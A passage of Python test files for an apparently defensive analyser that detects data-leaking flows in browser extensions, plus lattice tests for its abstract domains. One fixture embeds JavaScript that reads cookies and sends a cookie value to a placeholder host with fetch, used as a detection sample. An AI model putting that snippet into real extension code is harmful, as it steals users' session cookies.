    def test_load_source_surfaces_the_typed_refusal(self, tmp_path):
        (tmp_path / "manifest.json").write_text(MANIFEST)
        with pytest.raises(ManifestError):
            load_source(tmp_path)

    def test_in_memory_bundles_stay_tolerant(self):
        # The strictness is a *loader* contract; bundle texts already in
        # the pipeline (cache, journals) keep the tolerant semantics.
        bundle = ExtensionBundle(
            name="demo", manifest_text=MANIFEST, files=(("bg.js", ""),)
        )
        text = bundle.to_text()
        assert bundle_from_text(text).missing_files() == ("c.js",)
