"""The examples/extensions corpus: golden signatures and worked flows.

Each extension directory carries a ``SIGNATURE.txt`` golden pinning the
exact inferred signature. The three cookie_exfil variants are the
acceptance triangle for the conditional-flow rule:

- ``cookie_exfil`` — unguarded message -> chrome.cookies -> fetch;
- ``cookie_exfil_guarded`` — same flow behind ``sender.url ===``, every
  entry downgraded to the conditional type;
- ``cookie_exfil_misguarded`` — a *payload* check instead of a sender
  check; must NOT downgrade.
"""

from pathlib import Path

import pytest

from repro.api import diff_vet, vet
from repro.signatures.explain import explain_all
from repro.signatures.flowtypes import FlowType
from repro.webext.loader import load_source

pytestmark = pytest.mark.webext

EXTENSIONS = (
    Path(__file__).resolve().parent.parent.parent / "examples" / "extensions"
)

NAMES = sorted(p.name for p in EXTENSIONS.iterdir() if p.is_dir())


def golden_text(name: str) -> str:
    lines = [
        line
        for line in (EXTENSIONS / name / "SIGNATURE.txt").read_text().splitlines()
        if line.strip() and not line.startswith("#")
    ]
    return "\n".join(lines)


@pytest.fixture(scope="module")
def reports():
    return {name: vet(load_source(EXTENSIONS / name)) for name in NAMES}


class TestGoldenSignatures:
    def test_corpus_has_at_least_six_extensions(self):
        assert len(NAMES) >= 6

    @pytest.mark.parametrize("name", NAMES)
    def test_signature_matches_golden(self, name, reports):
        assert reports[name].signature.render() == golden_text(name)

    @pytest.mark.parametrize("name", NAMES)
    def test_no_degradation(self, name, reports):
        assert not reports[name].degraded


class TestConditionalFlowTriangle:
    def flow_types(self, report):
        return {
            (e.source, e.sink): e.flow_type for e in report.signature.flows
        }

    def test_unguarded_cookie_flow_is_unconditional(self, reports):
        types = self.flow_types(reports["cookie_exfil"])
        assert types[("cookie", "send")] is FlowType.TYPE1
        assert types[("message", "send")] is FlowType.TYPE2

    def test_guard_downgrades_to_conditional(self, reports):
        types = self.flow_types(reports["cookie_exfil_guarded"])
        assert types[("cookie", "send")] is FlowType.TYPE3
        assert types[("message", "send")] is FlowType.TYPE3
        assert reports["cookie_exfil_guarded"].counters["sender_guards"] == 1

    def test_payload_check_does_not_downgrade(self, reports):
        assert self.flow_types(reports["cookie_exfil_misguarded"]) == \
            self.flow_types(reports["cookie_exfil"])
        assert reports["cookie_exfil_misguarded"].counters["sender_guards"] == 0


class TestCrossComponentWitnesses:
    def test_message_flow_witness_crosses_components(self, reports):
        report = reports["cookie_exfil"]
        witnesses = explain_all(report.pdg, report.detail)
        message_witnesses = [
            w for w in witnesses if w.entry.source == "message"
        ]
        assert message_witnesses
        components = {
            step.source_component for w in message_witnesses for step in w.steps
        } | {
            step.target_component for w in message_witnesses for step in w.steps
        }
        assert "background" in components

    def test_witness_renders_component_tags(self, reports):
        report = reports["tab_tracker"]
        rendered = "\n".join(
            w.render() for w in explain_all(report.pdg, report.detail)
        )
        assert "[background]" in rendered


class TestVerdictShape:
    def test_benign_extension_has_no_flows(self, reports):
        assert not reports["settings_sync"].signature.flows

    def test_injector_reports_scripting_api(self, reports):
        rendered = reports["page_injector"].signature.render()
        assert "scripting" in rendered

    def test_redirect_uses_property_write_sink(self, reports):
        types = {
            (e.source, e.sink): e.flow_type
            for e in reports["redirect_affiliate"].signature.flows
        }
        assert types[("url", "redirect")] is FlowType.TYPE1

    def test_cross_component_counters(self, reports):
        counters = reports["cookie_exfil"].counters
        assert counters["components"] == 2
        assert counters["channels"] >= 2


class TestPrefilterSoundnessOnBundles:
    @pytest.mark.parametrize("name", NAMES)
    def test_prefilter_on_off_bit_identical(self, name):
        source = load_source(EXTENSIONS / name)
        plain = vet(source, prefilter=False)
        filtered = vet(source, prefilter=True)
        assert plain.signature.render() == filtered.signature.render()

    def test_irrelevant_bundle_takes_fast_lane(self, tmp_path):
        (tmp_path / "manifest.json").write_text(
            '{"name": "quiet", "background": {"service_worker": "bg.js"}}'
        )
        (tmp_path / "bg.js").write_text("var a = 1;\nvar b = a + 1;")
        report = vet(load_source(tmp_path), prefilter=True)
        assert report.prefiltered
        assert not report.signature.entries


class TestDifferentialVetting:
    def test_bundle_updates_refuse_the_fast_lane(self):
        old = load_source(EXTENSIONS / "cookie_exfil_guarded")
        new = load_source(EXTENSIONS / "cookie_exfil")
        report = diff_vet(old, new)
        assert not report.certificate.certified
        assert report.certificate.reason == "refused:webext-bundle"
        # Dropping the guard strengthens type3 -> type1/2: re-review.
        assert report.verdict == "re-review"

    def test_identical_bundles_approve(self):
        source = load_source(EXTENSIONS / "settings_sync")
        report = diff_vet(source, source)
        assert report.verdict == "approve"
