"""Abstract message channels: registration, dispatch, component scoping."""

import pytest

from repro.analysis import analyze
from repro.browser.chrome import WebExtEnvironment
from repro.ir.nodes import EventLoopStmt
from repro.webext.loader import ExtensionBundle
from repro.webext.lowering import lower_extension

pytestmark = pytest.mark.webext

MANIFEST = (
    '{"name": "demo", "manifest_version": 3,'
    ' "background": {"service_worker": "bg.js"},'
    ' "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}'
)


def run(bg: str, content: str):
    bundle = ExtensionBundle(
        name="demo", manifest_text=MANIFEST,
        files=(("bg.js", bg), ("c.js", content)),
    )
    lowered = lower_extension(bundle)
    result = analyze(lowered.program, WebExtEnvironment())
    return lowered.program, result


def channels_by_component(program, result):
    out = {}
    for sid, stmt in program.stmts.items():
        if isinstance(stmt, EventLoopStmt):
            out[stmt.component] = set(result.loop_channels.get(sid, ()))
    return out


class TestChannelDispatch:
    def test_handler_dispatches_at_its_components_loop_only(self):
        program, result = run(
            bg="chrome.runtime.onMessage.addListener(function (m, s, r) { var x = m; });",
            content="chrome.runtime.sendMessage({d: 1});",
        )
        channels = channels_by_component(program, result)
        assert "runtime" in channels["background"]
        assert "runtime" not in channels["content"]

    def test_handler_body_is_reached(self):
        # The handler writes a global from its parameter: only channel
        # dispatch can execute that statement.
        program, result = run(
            bg="chrome.runtime.onMessage.addListener(function (m, s, r) { seen = m; });",
            content="chrome.runtime.sendMessage({d: 1});",
        )
        # Every loop statement ran at least one dispatch round.
        assert any(result.loop_dispatches.values())

    def test_handler_runs_even_without_a_sender(self):
        # onMessage payloads are attacker-influenced: the handler must
        # dispatch even when no component ever calls sendMessage.
        program, result = run(
            bg="chrome.runtime.onMessage.addListener(function (m, s, r) { var x = m; });",
            content="var quiet = 1;",
        )
        channels = channels_by_component(program, result)
        assert "runtime" in channels["background"]

    def test_on_message_external_uses_external_channel(self):
        program, result = run(
            bg="chrome.runtime.onMessageExternal.addListener(function (m) { var x = m; });",
            content="var quiet = 1;",
        )
        channels = channels_by_component(program, result)
        assert "runtime-external" in channels["background"]
        assert "runtime" not in channels["background"]

    def test_data_callbacks_ride_private_channels(self):
        program, result = run(
            bg="chrome.cookies.getAll({}, function (cs) { var x = cs; });\n"
               "chrome.tabs.query({}, function (ts) { var y = ts; });",
            content="var quiet = 1;",
        )
        channels = channels_by_component(program, result)
        assert {"cookies", "tabs"} <= channels["background"]

    def test_send_response_channel_reaches_sender_callback(self):
        program, result = run(
            bg="chrome.runtime.onMessage.addListener(function (m, s, sr) { sr({ok: 1}); });",
            content="chrome.runtime.sendMessage({d: 1}, function (resp) { var x = resp; });",
        )
        channels = channels_by_component(program, result)
        assert "runtime-response" in channels["content"]


class TestSenderModel:
    def test_handler_sees_abstract_sender_object(self):
        program, result = run(
            bg="chrome.runtime.onMessage.addListener(function (m, sender, r) {"
               " who = sender.url; });",
            content="chrome.runtime.sendMessage({d: 1});",
        )
        # The sender's url is an unconstrained string (any page may be
        # behind the relaying content script).
        from repro.ir.nodes import Var

        value = None
        for (sid, context), state in result.states.items():
            candidate = state.read_var(Var("who", -1))
            if candidate is not None and not candidate.is_bottom:
                value = candidate
        assert value is not None
        assert value.string.is_top
