"""The WEB lint rules: manifest over-permission, unguarded handlers,
wildcard match patterns — plus their wiring into the lint engine."""

from pathlib import Path

import pytest

from repro.lint.engine import lint_paths, rule_table
from repro.lint.webext import lint_extension, lint_extension_dir
from repro.webext.loader import ExtensionBundle

pytestmark = pytest.mark.webext

EXTENSIONS = (
    Path(__file__).resolve().parent.parent.parent / "examples" / "extensions"
)


def bundle(manifest: str, **files: str) -> ExtensionBundle:
    return ExtensionBundle(
        name="demo", manifest_text=manifest,
        files=tuple(sorted(files.items())),
    )


def rules_of(findings):
    return sorted({f.rule for f in findings})


class TestWeb001OverPermission:
    def test_unused_permission_reported(self):
        findings = lint_extension(bundle(
            '{"name": "d", "permissions": ["cookies", "tabs"],'
            ' "background": {"service_worker": "bg.js"}}',
            **{"bg.js": "chrome.tabs.query({}, function (t) {});"},
        ))
        web001 = [f for f in findings if f.rule == "WEB001"]
        assert len(web001) == 1
        assert "'cookies'" in web001[0].message

    def test_used_permission_not_reported(self):
        findings = lint_extension(bundle(
            '{"name": "d", "permissions": ["cookies"],'
            ' "background": {"service_worker": "bg.js"}}',
            **{"bg.js": "chrome.cookies.getAll({}, function (c) {});"},
        ))
        assert "WEB001" not in rules_of(findings)

    def test_host_permissions_never_reported(self):
        findings = lint_extension(bundle(
            '{"name": "d", "permissions": ["https://a.example/*", "activeTab"],'
            ' "background": {"service_worker": "bg.js"}}',
            **{"bg.js": "var a = 1;"},
        ))
        assert "WEB001" not in rules_of(findings)

    def test_dynamic_code_silences_the_rule(self):
        # eval() could reach any namespace: non-use is unprovable.
        findings = lint_extension(bundle(
            '{"name": "d", "permissions": ["cookies"],'
            ' "background": {"service_worker": "bg.js"}}',
            **{"bg.js": "eval('x');"},
        ))
        assert "WEB001" not in rules_of(findings)


class TestWeb002UnguardedHandler:
    def handler_findings(self, body: str):
        return lint_extension(bundle(
            '{"name": "d", "background": {"service_worker": "bg.js"}}',
            **{"bg.js": (
                "chrome.runtime.onMessage.addListener("
                f"function (m, sender, r) {{ {body} }});"
            )},
        ))

    def test_privileged_call_without_sender_check(self):
        findings = self.handler_findings(
            "chrome.cookies.getAll({domain: m.d}, function (c) {});"
        )
        web002 = [f for f in findings if f.rule == "WEB002"]
        assert len(web002) == 1
        assert "cookies" in web002[0].message

    def test_sender_mention_suppresses(self):
        findings = self.handler_findings(
            "if (sender.url === 'https://a.example/') {"
            " chrome.cookies.getAll({}, function (c) {}); }"
        )
        assert "WEB002" not in rules_of(findings)

    def test_unprivileged_handler_is_quiet(self):
        findings = self.handler_findings("var x = m;")
        assert "WEB002" not in rules_of(findings)

    def test_external_event_also_checked(self):
        findings = lint_extension(bundle(
            '{"name": "d", "background": {"service_worker": "bg.js"}}',
            **{"bg.js": (
                "chrome.runtime.onMessageExternal.addListener("
                "function (m) { chrome.scripting.executeScript({}); });"
            )},
        ))
        assert "WEB002" in rules_of(findings)


class TestWeb003WildcardPatterns:
    def test_all_urls_content_script(self):
        findings = lint_extension(bundle(
            '{"name": "d", "content_scripts":'
            ' [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
            **{"c.js": "var a = 1;"},
        ))
        assert "WEB003" in rules_of(findings)

    def test_wildcard_host_externally_connectable(self):
        findings = lint_extension(bundle(
            '{"name": "d", "externally_connectable":'
            ' {"matches": ["*://*/*"]},'
            ' "background": {"service_worker": "bg.js"}}',
            **{"bg.js": "var a = 1;"},
        ))
        web003 = [f for f in findings if f.rule == "WEB003"]
        assert len(web003) == 1
        assert "externally_connectable" in web003[0].message

    def test_scoped_pattern_is_quiet(self):
        findings = lint_extension(bundle(
            '{"name": "d", "content_scripts":'
            ' [{"matches": ["https://shop.example.com/*"], "js": ["c.js"]}]}',
            **{"c.js": "var a = 1;"},
        ))
        assert "WEB003" not in rules_of(findings)


class TestCorpusExamples:
    def test_page_injector_trips_all_three_rules(self):
        findings = lint_extension_dir(EXTENSIONS / "page_injector")
        assert {"WEB001", "WEB002", "WEB003"} <= set(rules_of(findings))

    def test_guarded_exfil_is_web_clean(self):
        findings = lint_extension_dir(EXTENSIONS / "cookie_exfil_guarded")
        assert not [f for f in findings if f.rule.startswith("WEB00")] or \
            rules_of(findings) == ["WEB003"]


class TestEngineWiring:
    def test_rule_table_lists_web_rules(self):
        table = rule_table()
        ids = {row[0] for row in table}
        assert {"WEB001", "WEB002", "WEB003"} <= ids

    def test_lint_paths_handles_extension_dirs(self):
        report = lint_paths([str(EXTENSIONS / "page_injector")])
        assert any(f.rule == "WEB001" for f in report.findings)
        assert any("manifest.json" in name for name in report.files)

    def test_lint_paths_still_lints_plain_files(self, tmp_path):
        target = tmp_path / "one.js"
        target.write_text("eval('x');")
        report = lint_paths([str(target)])
        assert any(f.rule.startswith("JS") for f in report.findings)
