"""The ``webext`` section of the corpus bench report."""

from pathlib import Path

import pytest

from repro.evaluation.bench import _bench_webext

pytestmark = pytest.mark.webext

EXTENSIONS = (
    Path(__file__).resolve().parent.parent.parent / "examples" / "extensions"
)


class TestWebextBenchSection:
    @pytest.fixture(scope="class")
    def section(self):
        return _bench_webext(EXTENSIONS, runs=1)

    def test_covers_the_whole_mini_corpus(self, section):
        assert section is not None
        assert section["count"] >= 6
        assert len(section["extensions"]) == section["count"]

    def test_entries_carry_phase_times_and_shape(self, section):
        for entry in section["extensions"]:
            assert entry["total_s"] >= entry["p1_s"] > 0
            assert entry["ast_nodes"] > 0
            assert entry["components"] >= 1
            assert entry["samples_kept"] == 1

    def test_channel_counts_reflect_message_passing(self, section):
        by_name = {e["name"]: e for e in section["extensions"]}
        assert by_name["cookie_exfil"]["channels"] >= 2
        assert by_name["cookie_exfil_guarded"]["sender_guards"] == 1
        assert by_name["cookie_exfil"]["sender_guards"] == 0

    def test_prefilter_soundness_holds_on_bundles(self, section):
        assert section["identical_signatures"]
        assert 0.0 <= section["prefilter_hit_rate"] <= 1.0

    def test_missing_directory_is_skipped(self, tmp_path):
        assert _bench_webext(tmp_path / "nope") is None
        assert _bench_webext(None) is None

    def test_directory_without_manifests_yields_zero_counts(self, tmp_path):
        (tmp_path / "stray").mkdir()
        section = _bench_webext(tmp_path)
        assert section["count"] == 0
        assert section["prefilter_hits"] == 0
        assert section["prefilter_hit_rate"] is None  # null rate, no crash
        assert section["extensions"] == []
