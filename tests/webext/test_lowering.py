"""Multi-file lowering: components, the loop cycle, isolated worlds."""

import pytest

from repro.ir.nodes import EdgeKind, EventLoopStmt
from repro.webext.loader import ExtensionBundle
from repro.webext.lowering import lower_extension

pytestmark = pytest.mark.webext

MANIFEST = (
    '{"name": "demo", "manifest_version": 3,'
    ' "background": {"service_worker": "bg.js"},'
    ' "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}'
)


def lower_demo(bg="var a = 1;", content="var b = 2;"):
    bundle = ExtensionBundle(
        name="demo",
        manifest_text=MANIFEST,
        files=(("bg.js", bg), ("c.js", content)),
    )
    return lower_extension(bundle)


class TestComponents:
    def test_each_component_is_a_named_function(self):
        lowered = lower_demo()
        names = set(lowered.program.components.values())
        assert names == {"background", "content"}

    def test_component_of_resolves_nested_statements(self):
        lowered = lower_demo(bg="function f() { var x = 1; }\nf();")
        program = lowered.program
        by_component = {
            program.component_of(sid) for sid in program.stmts
        }
        # <main>'s own statements have no component; everything lowered
        # from a component file (even inside nested functions) has one.
        assert by_component == {None, "background", "content"}

    def test_component_files_recorded_in_order(self):
        lowered = lower_demo()
        assert lowered.component_files == {
            "background": ("bg.js",),
            "content": ("c.js",),
        }


class TestEventLoops:
    def loops(self, program):
        return [
            stmt for stmt in program.stmts.values()
            if isinstance(stmt, EventLoopStmt)
        ]

    def test_one_loop_per_component_forming_a_cycle(self):
        lowered = lower_demo()
        loops = self.loops(lowered.program)
        assert sorted(loop.component for loop in loops) == [
            "background", "content",
        ]
        # SEQ edges form the cycle loop1 -> loop2 -> loop1.
        sids = {loop.sid for loop in loops}
        for loop in loops:
            seq_targets = {
                edge.target for edge in loop.edges if edge.kind is EdgeKind.SEQ
            }
            assert seq_targets & sids

    def test_empty_extension_gets_generic_loop(self):
        bundle = ExtensionBundle(name="empty", manifest_text="{}", files=())
        lowered = lower_extension(bundle)
        loops = self.loops(lowered.program)
        assert len(loops) == 1
        assert loops[0].component is None
        assert any(
            edge.target == loops[0].sid and edge.kind is EdgeKind.SEQ
            for edge in loops[0].edges
        )


class TestIsolatedWorlds:
    def test_var_declarations_stay_component_local(self):
        # Both components declare `shared`; each lands in its own
        # function's locals, not the global scope.
        lowered = lower_demo(bg="var shared = 1;", content="var shared = 2;")
        program = lowered.program
        component_fids = set(program.components)
        for fid in component_fids:
            assert "shared" in program.functions[fid].locals
        assert "shared" not in program.global_names

    def test_undeclared_assignment_is_shared_global(self):
        lowered = lower_demo(bg="leak = 1;", content="var x = leak;")
        assert "leak" in lowered.program.global_names

    def test_recovery_collects_skips_per_file(self):
        bundle = ExtensionBundle(
            name="demo",
            manifest_text=MANIFEST,
            files=(("bg.js", "var ok = 1;\nclass Nope {}"), ("c.js", "var b = 2;")),
        )
        lowered = lower_extension(bundle, recover=True)
        assert lowered.skipped
        assert all(path == "bg.js" for path, _skip in lowered.skipped)
