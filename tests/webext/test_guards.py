"""Sender-guard detection and the conditional-flow downgrade."""

import pytest

from repro.analysis import analyze
from repro.browser.chrome import WebExtEnvironment, webext_spec
from repro.pdg import build_pdg
from repro.signatures import infer_signature
from repro.signatures.flowtypes import DEFAULT_LATTICE
from repro.signatures.signature import FlowEntry
from repro.webext.guards import downgrade_guarded, find_sender_guards
from repro.webext.loader import ExtensionBundle
from repro.webext.lowering import lower_extension

pytestmark = pytest.mark.webext

MANIFEST = (
    '{"name": "demo", "manifest_version": 3, "permissions": ["cookies"],'
    ' "background": {"service_worker": "bg.js"},'
    ' "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}'
)

LEAK_BODY = (
    "chrome.cookies.getAll({domain: m.d}, function (cs) {"
    " fetch('https://sink.example/x?v=' + cs[0].value); });"
)


def analyze_background(bg: str):
    bundle = ExtensionBundle(
        name="demo", manifest_text=MANIFEST,
        files=(("bg.js", bg), ("c.js", "chrome.runtime.sendMessage({d: 1});")),
    )
    lowered = lower_extension(bundle)
    result = analyze(lowered.program, WebExtEnvironment())
    pdg = build_pdg(result)
    return result, pdg


def handler(guard: str | None) -> str:
    body = LEAK_BODY if guard is None else f"if ({guard}) {{ {LEAK_BODY} }}"
    return (
        "chrome.runtime.onMessage.addListener("
        f"function (m, sender, r) {{ {body} }});"
    )


class TestGuardDetection:
    def test_no_guard_no_branches(self):
        result, pdg = analyze_background(handler(None))
        assert not find_sender_guards(result, pdg).any

    @pytest.mark.parametrize("guard", [
        "sender.url === 'https://app.example/'",
        "sender.origin === 'https://app.example'",
        "sender.id === 'abcdefgh'",
        "sender.url.startsWith('https://app.example/')",
        "sender.url.indexOf('https://app.example') === 0",
    ])
    def test_sender_identity_comparisons_are_guards(self, guard):
        result, pdg = analyze_background(handler(guard))
        report = find_sender_guards(result, pdg)
        assert report.any
        assert report.guarded

    def test_message_property_check_is_not_a_guard(self):
        result, pdg = analyze_background(handler("m.token === 'sekrit'"))
        assert not find_sender_guards(result, pdg).any

    def test_reading_sender_without_comparing_is_not_a_guard(self):
        result, pdg = analyze_background(
            "chrome.runtime.onMessage.addListener(function (m, sender, r) {"
            " logged = sender.url;"
            f" if (m.on) {{ {LEAK_BODY} }} }});"
        )
        assert not find_sender_guards(result, pdg).any


class TestDowngrade:
    def infer(self, bg: str):
        result, pdg = analyze_background(bg)
        detail = infer_signature(result, pdg, webext_spec())
        guards = find_sender_guards(result, pdg)
        return detail, downgrade_guarded(detail, guards)

    def entry_types(self, detail):
        return {
            (e.source, e.sink): e.flow_type
            for e in detail.signature.flows
        }

    def test_guarded_sink_downgrades_every_flow(self):
        before, after = self.infer(handler("sender.url === 'https://a.example/'"))
        for key, flow_type in self.entry_types(after).items():
            unguarded = self.entry_types(before)[key]
            assert DEFAULT_LATTICE.stronger_or_equal(unguarded, flow_type)
        # At least one entry strictly weakened.
        assert self.entry_types(before) != self.entry_types(after)

    def test_without_guard_detail_is_returned_unchanged(self):
        before, after = self.infer(handler(None))
        assert after is before

    def test_downgrade_preserves_provenance_sinks(self):
        before, after = self.infer(handler("sender.url === 'https://a.example/'"))
        before_sids = set().union(*before.provenance.values())
        after_sids = set().union(*after.provenance.values())
        assert after_sids == before_sids

    def test_downgraded_entries_still_flow_entries(self):
        _before, after = self.infer(handler("sender.url === 'https://a.example/'"))
        assert all(
            isinstance(entry, FlowEntry) for entry in after.signature.flows
        )
