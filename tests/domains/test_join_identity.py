"""The identity-preserving join contract.

The worklist fixpoint uses ``join(a, b) is a`` as its "nothing changed"
test, so every domain's join MUST return the left operand *object* when
the right adds nothing. These tests pin that contract (a regression
here would silently turn the analysis into an infinite loop or a
never-converging slowdown, not a wrong answer)."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.domains import bools
from repro.domains import prefix as p
from repro.domains import values as v
from repro.domains.heap import Heap
from repro.domains.objects import AbstractObject
from repro.domains.state import State
from repro.ir.nodes import GLOBAL_SCOPE, Var

_values = st.one_of(
    st.just(v.BOTTOM),
    st.just(v.UNDEF),
    st.builds(v.from_constant, st.text(alphabet="ab", max_size=3)),
    st.builds(v.from_constant, st.floats(allow_nan=False, width=16)),
    st.builds(v.from_addresses, st.integers(0, 3)),
)


class TestValueJoinIdentity:
    @given(_values)
    def test_self_join_is_self(self, a):
        assert a.join(a) is a

    @given(_values, _values)
    def test_join_returns_left_when_right_below(self, a, b):
        if b.leq(a):
            assert a.join(b) is a

    @given(_values, _values)
    def test_join_returns_operand_when_possible(self, a, b):
        joined = a.join(b)
        if joined == a:
            assert joined is a
        elif joined == b:
            assert joined is b

    @given(_values, _values)
    def test_identity_result_still_correct(self, a, b):
        joined = a.join(b)
        assert a.leq(joined) and b.leq(joined)


class TestPrimitiveJoinIdentity:
    def test_bool_join_identity(self):
        top = bools.AbstractBool(True, True)
        assert top.join(bools.TRUE) is top
        assert bools.TRUE.join(bools.TRUE) is bools.TRUE

    def test_prefix_join_identity(self):
        wide = p.prefix("ab")
        narrow = p.exact("abc")
        assert wide.join(narrow) is wide
        assert narrow.join(narrow) is narrow

    def test_prefix_join_gcp_reuses_operand(self):
        shorter = p.prefix("http://")
        longer = p.prefix("http://host.example/")
        assert longer.join(shorter) is shorter


class TestObjectJoinIdentity:
    def test_join_with_subsumed_returns_self(self):
        big = AbstractObject(
            properties=(("a", v.from_constant(1.0).join(v.UNDEF)),),
        )
        small = AbstractObject(
            properties=(("a", v.from_constant(1.0).join(v.UNDEF)),),
        )
        assert big.join(small) is big

    def test_self_join_is_self(self):
        obj = AbstractObject(properties=(("a", v.UNDEF),))
        assert obj.join(obj) is obj


class TestStateHeapJoinIdentity:
    def test_state_join_unchanged_returns_self(self):
        x = Var("x", GLOBAL_SCOPE)
        left = State()
        left.write_var(x, v.from_constant(1.0))
        right = left.copy()
        assert left.join(right) is left

    def test_state_join_changed_returns_new(self):
        x = Var("x", GLOBAL_SCOPE)
        left, right = State(), State()
        left.write_var(x, v.from_constant(1.0))
        right.write_var(x, v.from_constant(2.0))
        joined = left.join(right)
        assert joined is not left
        assert joined.read_var(x).number.is_top

    def test_heap_join_unchanged_returns_self(self):
        left = Heap()
        left.allocate(5, AbstractObject())
        right = left.copy()
        assert left.join(right) is left

    def test_heap_join_singleton_loss_returns_new(self):
        left = Heap()
        left.allocate(5, AbstractObject())
        right = left.copy()
        right.allocate(5, AbstractObject())  # right loses singleton-ness
        joined = left.join(right)
        assert joined is not left
        assert not joined.is_singleton(5)

    def test_heap_join_respects_semantics(self):
        left, right = Heap(), Heap()
        left.allocate(1, AbstractObject(properties=(("p", v.UNDEF),)))
        right.allocate(2, AbstractObject())
        joined = left.join(right)
        assert joined.contains(1) and joined.contains(2)


def _build_state(bindings, heap_objects):
    state = State()
    for name, value in bindings.items():
        state.write_var(Var(name, GLOBAL_SCOPE), value)
    for address in heap_objects:
        state.heap.allocate(address, AbstractObject(properties=(("p", v.UNDEF),)))
    return state


_states = st.builds(
    _build_state,
    st.dictionaries(st.text(alphabet="xyz", min_size=1, max_size=2), _values, max_size=4),
    st.sets(st.integers(0, 5), max_size=3),
)


class TestStateBottomJoinProperty:
    """Property: joining any state with bottom (the empty state) returns
    the SAME object — the fixpoint's ``is``-based convergence test
    depends on it."""

    @settings(max_examples=80, deadline=None)
    @given(_states)
    def test_join_with_bottom_is_identity(self, state):
        assert state.join(State()) is state

    @settings(max_examples=80, deadline=None)
    @given(_states)
    def test_self_join_is_identity(self, state):
        assert state.join(state) is state
        assert state.join(state.copy()) is state
