"""Tests for the prefix string domain (Section 5), including the paper's
worked example and hypothesis property tests of the lattice laws."""

from hypothesis import given
from hypothesis import strategies as st

from repro.domains import prefix as p

_texts = st.text(alphabet="abc./?", max_size=6)
_elements = st.one_of(
    st.just(p.BOTTOM),
    st.builds(p.exact, _texts),
    st.builds(p.prefix, _texts),
)


class TestBasics:
    def test_bottom_and_top(self):
        assert p.BOTTOM.is_bottom
        assert p.TOP.is_top
        assert not p.exact("a").is_bottom

    def test_exact_concrete(self):
        assert p.exact("www.example.com").concrete() == "www.example.com"
        assert p.prefix("www").concrete() is None
        assert p.BOTTOM.concrete() is None

    def test_admits(self):
        assert p.exact("ab").admits("ab")
        assert not p.exact("ab").admits("abc")
        assert p.prefix("ab").admits("abc")
        assert not p.prefix("ab").admits("a")
        assert p.TOP.admits("anything")
        assert not p.BOTTOM.admits("x")


class TestOrder:
    def test_bottom_below_everything(self):
        assert p.BOTTOM.leq(p.exact("x"))
        assert p.BOTTOM.leq(p.TOP)

    def test_everything_below_top(self):
        assert p.exact("x").leq(p.TOP)
        assert p.prefix("abc").leq(p.TOP)

    def test_exact_below_its_prefixes(self):
        assert p.exact("abc").leq(p.prefix("ab"))
        assert not p.exact("ab").leq(p.prefix("abc"))

    def test_longer_prefix_below_shorter(self):
        assert p.prefix("abc").leq(p.prefix("ab"))
        assert not p.prefix("ab").leq(p.prefix("abc"))

    def test_distinct_exacts_incomparable(self):
        assert not p.exact("a").leq(p.exact("b"))
        assert not p.exact("b").leq(p.exact("a"))

    def test_prefix_not_below_exact(self):
        # (str, false) includes infinitely many strings; never ⊑ an exact.
        assert not p.prefix("ab").leq(p.exact("ab"))


class TestJoin:
    def test_join_equal_exacts(self):
        assert p.exact("x").join(p.exact("x")) == p.exact("x")

    def test_join_different_exacts_is_common_prefix(self):
        joined = p.exact("www.example.com/a").join(p.exact("www.example.com/b"))
        assert joined == p.prefix("www.example.com/")

    def test_join_disjoint_strings_is_top(self):
        assert p.exact("abc").join(p.exact("xyz")) == p.TOP

    def test_paper_section5_example(self):
        # var baseURL = "www.example.com/req?";
        # if (...) baseURL += "name"; else baseURL += "age";
        base = p.exact("www.example.com/req?")
        then_branch = base.concat(p.exact("name"))
        else_branch = base.concat(p.exact("age"))
        joined = then_branch.join(else_branch)
        assert joined == p.prefix("www.example.com/req?")
        assert joined.admits("www.example.com/req?name")
        assert joined.admits("www.example.com/req?age")

    def test_vkvideodownloader_failure_mode(self):
        # Three distinct video-player domains: the prefix domain cannot
        # keep them apart, which is exactly the paper's two `fail` rows.
        domains = [
            p.exact("vkontakte.ru/video"),
            p.exact("youtube.com/watch"),
            p.exact("vimeo.com/v"),
        ]
        joined = domains[0].join(domains[1]).join(domains[2])
        assert joined.concrete() is None
        assert joined == p.TOP  # no common prefix at all


class TestMeet:
    def test_meet_with_top_is_identity(self):
        assert p.exact("ab").meet(p.TOP) == p.exact("ab")
        assert p.TOP.meet(p.prefix("ab")) == p.prefix("ab")

    def test_meet_exact_with_admitting_prefix(self):
        assert p.exact("abc").meet(p.prefix("ab")) == p.exact("abc")

    def test_meet_exact_with_non_admitting_prefix(self):
        assert p.exact("a").meet(p.prefix("ab")) == p.BOTTOM

    def test_meet_equal_exacts_is_itself(self):
        # The paper's printed meet sends equal exacts to ⊥; the repaired
        # version (documented in the module) returns the element.
        assert p.exact("x").meet(p.exact("x")) == p.exact("x")

    def test_meet_distinct_exacts_is_bottom(self):
        assert p.exact("x").meet(p.exact("y")) == p.BOTTOM

    def test_meet_overlapping_prefixes(self):
        assert p.prefix("ab").meet(p.prefix("abc")) == p.prefix("abc")

    def test_overlaps(self):
        assert p.prefix("ab").overlaps(p.exact("abc"))
        assert not p.exact("x").overlaps(p.exact("y"))


class TestConcat:
    def test_bottom_absorbs(self):
        assert p.BOTTOM.concat(p.exact("x")) == p.BOTTOM
        assert p.exact("x").concat(p.BOTTOM) == p.BOTTOM

    def test_exact_exact(self):
        assert p.exact("ab").concat(p.exact("cd")) == p.exact("abcd")

    def test_exact_prefix(self):
        assert p.exact("ab").concat(p.prefix("cd")) == p.prefix("abcd")

    def test_prefix_swallows_right(self):
        assert p.prefix("ab").concat(p.exact("cd")) == p.prefix("ab")

    def test_url_building_pattern(self):
        # request.open("GET", base + "?video_id=" + id) with unknown id:
        # the domain survives as a prefix.
        base = p.exact("http://youtube.com/get_video_info")
        url = base.concat(p.exact("?video_id=")).concat(p.TOP)
        assert url == p.prefix("http://youtube.com/get_video_info?video_id=")


class TestLatticeLaws:
    @given(_elements, _elements)
    def test_join_commutative(self, a, b):
        assert a.join(b) == b.join(a)

    @given(_elements, _elements, _elements)
    def test_join_associative(self, a, b, c):
        assert a.join(b).join(c) == a.join(b.join(c))

    @given(_elements)
    def test_join_idempotent(self, a):
        assert a.join(a) == a

    @given(_elements)
    def test_leq_reflexive(self, a):
        assert a.leq(a)

    @given(_elements, _elements)
